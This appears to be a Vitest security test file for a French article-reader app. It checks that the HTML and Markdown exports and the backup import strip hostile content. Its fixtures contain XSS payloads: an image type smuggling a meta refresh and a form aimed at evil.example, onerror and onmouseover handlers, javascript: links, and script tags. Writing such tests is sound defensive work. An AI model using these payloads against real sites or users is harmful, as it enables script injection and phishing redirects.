// @vitest-environment jsdom
// Issue 10, items 1 and 2: exports are untrusted output. A hostile stored image type, title, byline or
// article text must not turn the HTML export into a page that navigates, shows a form or loads anything,
// and the Markdown export, rendered by a common Markdown library (marked: raw HTML passes through, links
// are not filtered), must give no element with an event handler and no javascript: link.
import { Blob as NodeBlob } from 'node:buffer';
import { marked } from 'marked';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { saveArticle } from '../../../utils/db/articles';
import { exportBackup, exportBackupJson } from '../../../utils/db/backup/format';
import { exportCsp, toStandaloneHtml } from '../../../utils/db/backup/html';
import { importFile } from '../../../utils/db/backup/import';
import { markdownUrl, toMarkdown } from '../../../utils/db/backup/markdown';
import { getArticle } from '../../../utils/db/articles';
import { LisibleDB, type SavedArticle } from '../../../utils/db/schema';
import type { Article } from '../../../utils/extract/types';
import { sanitizeArticleHtml } from '../../../utils/safety/sanitize';
import { libraryFields } from './article';

globalThis.Blob = NodeBlob as unknown as typeof Blob;

const HOSTILE_TYPE =
  'image/png"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name=p>';
const sanitize = (h: string) => sanitizeArticleHtml(h);
const exportSanitize = (h: string, local: ReadonlyMap<string, string>) =>
  sanitizeArticleHtml(h, undefined, { local, remote: 0 });

function hostileArticle(): Article {
  const url = 'https://www.ouest-france.fr/normandie/hostile.html';
  return {
    url,
    canonicalUrl: url,
    title: 'Titre <img src=x onerror=alert(1)> ](javascript:alert(2))',
    excerpt: '<script>alert(3)</script> [clic](javascript:alert(4))',
    byline: '<a href="javascript:alert(5)">x</a>',
    siteName: 'Site <b onmouseover=alert(6)>',
    publishedTime: null,
    modifiedTime: null,
    lang: 'fr',
    leadImage: null,
    contentHtml: sanitizeArticleHtml(
      '<p>Texte &lt;img src=x onerror=alert(7)&gt; et &amp;lt;b&amp;gt;.</p>' +
        '<p><a href="https://x.fr/a">lien ](javascript:alert(8)) [b](javascript:alert(9))</a></p>' +
        '<p><a href="mailto:a@b.fr">courriel</a> <a href="/relatif">relatif</a></p>' +
        '<img src="https://img.fr/a.png" alt="alt ](javascript:alert(10)) <svg onload=alert(11)>">' +
        '<img src="https://img.fr/b.svg" alt="vectoriel">' +
        '<pre><code>&lt;script&gt;alert(12)&lt;/script&gt;</code></pre>' +
        '<p>&lt;a href="javascript:alert(13)"&gt;clic&lt;/a&gt; &lt;javascript:alert(14)&gt;</p>',
    ),
    textContent: 'Texte',
    wordCount: 1,
    readingTimeMinutes: 1,
    teaser: false,
    commune: null,
  };
}

let database: LisibleDB;
beforeEach(() => {
  database = new LisibleDB(`exp-${Math.random()}`);
});
afterEach(async () => {
  await database.delete();
});

async function hostileLibrary(): Promise<SavedArticle> {
  const r = await saveArticle(hostileArticle(), database);
  if (!r.ok) throw new Error(r.message);
  // A stored blob whose type is markup (what an older Lisible kept from a hostile Content-Type).
  await database.images.bulkPut([
    {
      articleId: r.id,
      url: 'https://img.fr/a.png',
      blob: new Blob([new Uint8Array([1, 2, 3])], { type: HOSTILE_TYPE }),
    },
    { articleId: r.id, url: 'https://img.fr/b.svg', blob: new Blob(['<svg/>'], { type: 'image/svg+xml' }) },
  ]);
  return (await getArticle(r.id, database))!;
}

const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html');

describe('standalone HTML export', () => {
  it('escapes every field, inlines only allow-listed raster types, loads nothing, and cannot navigate', async () => {
    const a = await hostileLibrary();
    const backup = await exportBackup({ ids: [a.id!] }, database);
    const images = new Map([[a.id!, backup.articles[0]!.images!]]);
    const html = await toStandaloneHtml([a], { images, sanitize: exportSanitize });
    const doc = parse(html);
    expect(doc.querySelectorAll('form, input, iframe, object, embed, script, base')).toHaveLength(0);
    const metas = [...doc.querySelectorAll('meta')].map(
      (m) => m.getAttribute('http-equiv') ?? m.getAttribute('name') ?? 'charset',
    );
    expect(metas).toEqual(['Content-Security-Policy', 'charset', 'viewport', 'referrer']);
    expect(html).not.toMatch(/http-equiv="refresh"/i);
    const csp = doc.querySelector('meta[http-equiv]')!.getAttribute('content')!;
    expect(csp).toBe(await exportCsp());
    for (const d of [
      "default-src 'none'",
      'img-src data:',
      "form-action 'none'",
      "frame-src 'none'",
      "base-uri 'none'",
    ])
      expect(csp).toContain(d);
    // Neither the blob typed with markup nor the SVG is inlined, and nothing is left to load from afar.
    expect(doc.querySelectorAll('img[src]')).toHaveLength(0);
    expect(doc.querySelectorAll('img:not([src])')).toHaveLength(2);
    expect(doc.querySelectorAll('[onerror], [onload], [onmouseover], [style]')).toHaveLength(0);
    expect(
      [...doc.querySelectorAll('a')].every((x) => /^(https?|mailto):|^\//.test(x.getAttribute('href') ?? '')),
    ).toBe(true);
    expect(doc.title).toBe(a.title);
  });
});

describe('Markdown export', () => {
  it('rendered by marked, gives no event handler, no javascript: link, no raw element from the text', async () => {
    const a = await hostileLibrary();
    const md = toMarkdown(a);
    const doc = parse(await marked.parse(md));
    const all = [...doc.body.querySelectorAll('*')];
    expect(all.filter((el) => [...el.attributes].some((at) => /^on/i.test(at.name)))).toEqual([]);
    for (const el of doc.querySelectorAll('[href], [src]'))
      expect(el.getAttribute('href') ?? el.getAttribute('src')).toMatch(/^https?:\/\//);
    expect(doc.querySelectorAll('script, svg, b, form, iframe')).toHaveLength(0);
    // Only the article's own http(s) image and link survive as elements; the text reads as written.
    expect([...doc.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual([
      'https://img.fr/a.png',
      'https://img.fr/b.svg',
    ]);
    expect([...doc.querySelectorAll('a')].map((x) => x.getAttribute('href'))).toEqual([
      'https://www.ouest-france.fr/normandie/hostile.html',
      'https://x.fr/a',
    ]);
    expect(doc.body.textContent).toContain('Texte <img src=x onerror=alert(7)> et &lt;b&gt;.');
    expect(doc.querySelector('h1')!.textContent).toBe(a.title);
    expect(doc.querySelector('pre code')!.textContent).toContain('<script>alert(12)</script>');
  });

  it('keeps structure that round-trips: headings, emphasis, lists, quotes, code, tables', () => {
    const body = sanitizeArticleHtml(
      '<h2>Partie</h2><p>Un <strong>mot</strong> et <em>un autre</em>, <a href="https://a.fr/x(1)">lien</a>.</p>' +
        '<ul><li>un<ul><li>deux</li></ul></li></ul><ol><li>premier</li></ol><blockquote><p>Citation</p></blockquote>' +
        '<table><tr><td>Commune</td><td>Habitants</td></tr><tr><td>Caen</td><td>105 000</td></tr></table>' +
        '<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>b | c</td></tr></tbody></table>',
    );
    const md = toMarkdown({ ...saved(), contentHtml: body });
    const doc = parse(marked.parse(md) as string);
    expect(doc.querySelector('h3')?.textContent).toBe('Partie');
    expect(doc.querySelector('strong')?.textContent).toBe('mot');
    expect(doc.querySelector('em')?.textContent).toBe('un autre');
    expect(doc.querySelector('a[href="https://a.fr/x%281%29"]')?.textContent).toBe('lien');
    expect(doc.querySelector('ul ul li')?.textContent).toBe('deux');
    expect(doc.querySelector('ol li')?.textContent).toBe('premier');
    expect(doc.querySelector('blockquote')?.textContent?.trim()).toBe('Citation');
    const tables = doc.querySelectorAll('table');
    expect(tables).toHaveLength(2);
    expect([...tables[0]!.querySelectorAll('th')].map((t) => t.textContent)).toEqual([
      'Commune',
      'Habitants',
    ]);
    expect(tables[0]!.querySelector('td')?.textContent).toBe('Caen');
    expect(tables[1]!.querySelector('td')?.textContent).toBe('b | c');
  });

  it('only http(s) URLs become link destinations', () => {
    expect(markdownUrl('javascript:alert(1)')).toBeNull();
    expect(markdownUrl('data:text/html,x')).toBeNull();
    expect(markdownUrl('/relatif')).toBeNull();
    expect(markdownUrl('https://a.fr/x y)<z>')).toBe('https://a.fr/x%20y%29%3Cz%3E');
  });
});

describe('hostile backups', () => {
  it('an image type that is markup is dropped at import; the export of what was imported stays inert', async () => {
    const a = await hostileLibrary();
    const json = await exportBackupJson({}, database);
    expect(json).toContain('refresh');
    const fresh = new LisibleDB(`fresh-${Math.random()}`);
    try {
      await importFile(json, { sanitize }, fresh);
      const imgs = await fresh.images.toArray();
      expect(imgs.map((i) => i.blob.type)).toEqual(['image/svg+xml']);
      const b = (await getArticle((await fresh.articles.toArray())[0]!.id!, fresh))!;
      const html = await toStandaloneHtml([b], { sanitize: exportSanitize });
      expect(html).not.toMatch(/refresh|<form/i);
      expect(b.title).toBe(a.title);
    } finally {
      await fresh.delete();
    }
  });
});

function saved(): SavedArticle {
  return {
    ...hostileArticle(),
    title: 'Structure',
    excerpt: '',
    byline: null,
    siteName: null,
    ...libraryFields('https://www.ouest-france.fr/structure.html', 1),
    key: 'k',
    words: [],
    facets: [],
  };
}
